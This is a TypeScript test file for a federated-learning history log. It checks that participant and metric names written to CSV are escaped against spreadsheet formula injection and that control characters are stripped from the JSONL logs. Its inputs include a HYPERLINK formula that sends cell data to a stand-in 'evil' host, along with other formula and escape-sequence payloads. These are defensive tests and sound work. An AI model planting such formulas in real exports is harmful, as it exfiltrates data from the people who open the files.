import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { systemClock } from '../../../../src/clock.ts';
import { History } from '../../../../src/fl/transport/history.ts';
import { silentLogger } from '../../../../src/logger.ts';
import { HOSTILE, STEERING } from '../../../support/hostile-text.ts';

let folder = '';
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'history-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

/** The rows of metrics.csv after one update. */
async function rowsOf(participant: string, metrics: Record<string, number>): Promise<string> {
  const history = new History({ folder, clock: systemClock(), logger: silentLogger });
  history.record({ event: 'update-received', round: 1, participant, samples: null, metrics, size_bytes: 1 });
  await history.close();
  const text = await readFile(join(folder, 'metrics.csv'), 'utf8');
  return text.slice(text.indexOf('\n') + 1);
}

it.each([
  ['=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
  ['@SUM(1+1)', `'@SUM(1+1)`],
  ['+1+cmd', `'+1+cmd`],
  ['-a', `'-a`],
  ['-1e5', '-1e5'],
  ['\t=1', `'\t=1`],
  ['\r=1', `"'\r=1"`],
  ['\uff1d1', `'\uff1d1`],
  ['a\rb', '"a\rb"'],
  ['a,"b"', '"a,""b"""'],
  ['\u001b[31m', '\\u{1b}[31m'],
])('writes the participant %j as a text and no formula', async (name, cell) => {
  expect(await rowsOf(name, { loss: -0.5 })).toBe(`1,${cell},loss,-0.5\n`);
});

it('leaves out metrics that nobody may call so, and writes those that look like formulas as texts', async () => {
  expect(await rowsOf('a', { '=1+1': 1, 'loss\r': 2, '-loss': 3, loss: 4 })).toBe(
    `1,a,'-loss,3\n1,a,loss,4\n`,
  );
});

it('keeps no raw control character in the files with the events', async () => {
  await rowsOf(HOSTILE, { [HOSTILE]: 1, loss: 1 });
  for (const name of ['history.jsonl', 'metrics.jsonl']) {
    const text = await readFile(join(folder, name), 'utf8');
    expect(STEERING.exec(text)).toBeNull();
    expect(JSON.parse(text)).toMatchObject({ participant: HOSTILE });
  }
});
